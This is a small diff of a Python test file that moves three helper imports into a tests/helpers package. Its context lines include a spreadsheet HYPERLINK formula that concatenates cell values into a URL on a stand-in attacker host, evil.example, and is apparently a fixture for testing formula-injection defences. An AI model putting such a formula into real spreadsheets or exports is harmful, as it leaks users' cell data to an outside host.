@@ -12,9 +12,9 @@ from email.policy import default
 import pytest
 import sqlalchemy as sa
 
-from tests.factories import auth, declaration
-from tests.smtp_helpers import smtp_inbox
-from tests.web.conftest import People, csrf_token
+from tests.helpers.factories import auth, declaration
+from tests.helpers.smtp import smtp_inbox
+from tests.helpers.web import People, csrf_token
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?x="&D2&E2,"查看详情")'
 PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
